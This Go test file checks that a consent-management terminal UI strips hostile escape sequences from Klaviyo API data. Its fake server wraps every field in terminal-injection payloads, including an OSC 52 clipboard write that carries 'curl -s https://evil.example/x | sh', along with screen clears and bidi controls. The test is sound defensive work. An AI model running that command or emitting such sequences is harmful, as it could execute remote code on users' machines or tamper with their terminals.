package ui

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"

	tea "charm.land/bubbletea/v2"

	"github.com/consentdesk/consent/client"
)

// Hostile text from the API: an OSC 52 clipboard write, a screen clear, BEL,
// C1 CSI and OSC, and bidi controls (the same set as the root package's
// hostile_test.go, which runs the binary in a real terminal).
var (
	uiHostileClipboard = base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh"))
	uiHostileOSC52     = "\x1b]52;c;" + uiHostileClipboard + "\a"
)

// uiHostile hides every hostile sequence inside visible.
func uiHostile(visible string) string {
	half := len(visible) / 2
	return uiHostileOSC52 + visible[:half] + "\x1b[2J\x1b[H" + "\a" + "\u202e" + "\u009b31m" +
		visible[half:] + "\u009d0;pwned\u009c" + "\u2066"
}

// serveUIHostile is a fake Klaviyo whose lists, profiles and errors are
// hostile.
func serveUIHostile(t *testing.T) *httptest.Server {
	t.Helper()
	ts := uiHostile("2024-05-06T10:11:12+00:00")
	consent := func(state, canKey string, can bool) map[string]any {
		return map[string]any{"consent": state, canKey: can, "consent_timestamp": ts, "last_updated": ts,
			"method": uiHostile("API"), "method_detail": uiHostile("Consent Desk")}
	}
	email := consent("SUBSCRIBED", "can_receive_email_marketing", false)
	email["custom_method_detail"] = uiHostile("Front desk")
	email["suppression"] = []any{map[string]any{"reason": uiHostile("HARD_BOUNCE"), "timestamp": ts}}
	email["list_suppressions"] = []any{map[string]any{"list_id": uiHostile("HOST1"), "reason": uiHostile("USER_SUPPRESSED"), "timestamp": ts}}
	profile := map[string]any{"type": "profile", "id": uiHostile("01HOSTILEE"), "attributes": map[string]any{
		"email": uiHostile("eve@example.com"), "phone_number": uiHostile("+12015550123"),
		"first_name": uiHostile("Eve"), "last_name": uiHostile("Mallory"), "joined_group_at": ts,
		"subscriptions": map[string]any{
			"email": map[string]any{"marketing": email},
			"sms": map[string]any{
				"marketing":     consent(uiHostile("SUBSCRIBED"), "can_receive_sms_marketing", true),
				"transactional": consent("NEVER_SUBSCRIBED", "can_receive_sms_transactional", false),
			},
		},
	}}
	list := func(id, name, optIn string) map[string]any {
		return map[string]any{"type": "list", "id": id, "attributes": map[string]any{"name": name, "opt_in_process": optIn}}
	}
	lists := []any{
		list("HOST1", uiHostile("Newsletter"), "single_opt_in"),
		list(uiHostile("VIP9"), uiHostile("Early Access"), uiHostile("double_opt_in")),
		list("ERR1", "Broken API", "single_opt_in"),
	}
	apiError := map[string]any{"errors": []any{map[string]any{"id": "e1", "status": 400, "code": "invalid",
		"title": uiHostile("Invalid input."), "detail": uiHostile("The list is locked"),
		"source": map[string]any{"pointer": uiHostile("/data/attributes/name")}}}}
	write := func(w http.ResponseWriter, status int, v any) {
		w.Header().Set("Content-Type", "application/vnd.api+json")
		w.WriteHeader(status)
		_ = json.NewEncoder(w).Encode(v)
	}
	collection := func(data any) any {
		return map[string]any{"data": data, "links": map[string]any{"next": nil}}
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/lists", func(w http.ResponseWriter, r *http.Request) { write(w, 200, collection(lists)) })
	mux.HandleFunc("GET /api/lists/{id}/profiles", func(w http.ResponseWriter, r *http.Request) {
		if r.PathValue("id") == "ERR1" {
			write(w, 400, apiError)
			return
		}
		write(w, 200, collection([]any{profile}))
	})
	mux.HandleFunc("GET /api/profiles", func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Query().Get("filter"), "broken@") {
			write(w, 400, apiError)
			return
		}
		write(w, 200, collection([]any{profile}))
	})
	mux.HandleFunc("GET /api/profiles/{id}", func(w http.ResponseWriter, r *http.Request) {
		write(w, 200, map[string]any{"data": profile})
	})
	mux.HandleFunc("GET /api/profiles/{id}/lists", func(w http.ResponseWriter, r *http.Request) {
		write(w, 200, collection(lists[:2]))
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

// wantNoHostileContent fails when the view the UI hands to Bubble Tea holds
// anything but text and its own colour (SGR) sequences: an OSC (clipboard,
// title), another CSI (a screen clear), BEL or another C0 control, a C1
// control, a bidi control, or the hostile payloads.
func wantNoHostileContent(t *testing.T, a *App, step string) {
	t.Helper()
	v := a.View()
	content := v.Content
	var found []string
	for i := 0; i < len(content); {
		r, size := utf8.DecodeRuneInString(content[i:])
		switch {
		case r == '\x1b':
			// Only the UI's own styling: ESC [ params m.
			j := i + 1
			if j < len(content) && content[j] == '[' {
				j++
				for j < len(content) && (content[j] >= '0' && content[j] <= '9' || content[j] == ';' || content[j] == ':') {
					j++
				}
				if j < len(content) && content[j] == 'm' {
					i = j + 1
					continue
				}
			}
			found = append(found, fmt.Sprintf("escape %q", content[i:min(i+8, len(content))]))
		case r == utf8.RuneError && size == 1:
			found = append(found, "invalid UTF-8")
		case r < 0x20 && r != '\n', r == 0x7f:
			found = append(found, fmt.Sprintf("C0 control %U", r))
		case r >= 0x80 && r <= 0x9f:
			found = append(found, fmt.Sprintf("C1 control %U", r))
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			found = append(found, fmt.Sprintf("bidi control %U", r))
		}
		i += size
	}
	for _, payload := range []string{uiHostileClipboard, "0;pwned", "52;c;"} {
		if strings.Contains(content, payload) {
			found = append(found, fmt.Sprintf("payload %q", payload))
		}
	}
	if v.WindowTitle != "Consent Desk" {
		found = append(found, fmt.Sprintf("window title %q", v.WindowTitle))
	}
	if len(found) > 0 {
		t.Errorf("%s: the view holds %s:\n%q", step, strings.Join(found, ", "), content)
	}
}

// TestHostileTextInEveryView walks the views an agent sees data from the
// API in, on a fake Klaviyo whose every string is hostile: the list picker,
// a list's members, a member's profile and the lists it is on, the check
// view's consent card, and an API error in the members and check views.
// Each frame is free of the hostile sequences and shows the text around
// them.
func TestHostileTextInEveryView(t *testing.T) {
	srv := serveUIHostile(t)
	a := newClientApp(t, 140, 40, client.Options{BaseURL: srv.URL}, nil)

	typeAndWait(t, a, "m")
	wantNoHostileContent(t, a, "list picker")
	wantScreen(t, a, "Newsletter HOST1 single opt-in", "Early Access VIP9 double_opt_in", "Broken API ERR1")
	typeAndWait(t, a, "newsletter")
	wantScreen(t, a, "1 of 3 lists match")
	pressAndWait(t, a, tea.KeyEnter, 0)
	wantNoHostileContent(t, a, "members")
	wantScreen(t, a, "members of Newsletter (single opt-in)", "eve@example.com", "+12015550123 US", "2024-05-06")

	pressAndWait(t, a, tea.KeyEnter, 0)
	wantNoHostileContent(t, a, "profile")
	wantScreen(t, a, "Eve Mallory · 01HOSTILEE", "eve@example.com · +1 201-555-0123 · United States (US)",
		"method API", "detail Consent Desk", "custom detail Front desk", "suppressed: HARD_BOUNCE since 2024-05-06",
		"suppressed on list HOST1: USER_SUPPRESSED")
	typeAndWait(t, a, "l")
	wantNoHostileContent(t, a, "profile lists")
	wantScreen(t, a, "Newsletter (HOST1, single opt-in)", "Early Access (VIP9, double_opt_in)")

	pressAndWait(t, a, tea.KeyEscape, 0)
	pressAndWait(t, a, tea.KeyEscape, 0)
	wantScreen(t, a, "What would you like to do?")
	typeAndWait(t, a, "m")
	typeAndWait(t, a, "err1")
	pressAndWait(t, a, tea.KeyEnter, 0)
	wantNoHostileContent(t, a, "members error")
	wantScreen(t, a, "Klaviyo answered 400 Bad Request to GET /api/lists/{id}/profiles: The list is locked (at /data/attributes/name)")

	pressAndWait(t, a, tea.KeyEscape, 0)
	wantScreen(t, a, "What would you like to do?")
	checkFor(t, a, "eve@example.com")
	wantNoHostileContent(t, a, "check")
	wantScreen(t, a, "Eve Mallory · 01HOSTILEE", "United States (US)", "method API", "suppressed: HARD_BOUNCE")

	pressAndWait(t, a, tea.KeyEscape, 0)
	checkFor(t, a, "broken@example.com")
	wantNoHostileContent(t, a, "check error")
	wantScreen(t, a, "Klaviyo answered 400 Bad Request to GET /api/profiles: The list is locked (at /data/attributes/name)")
}
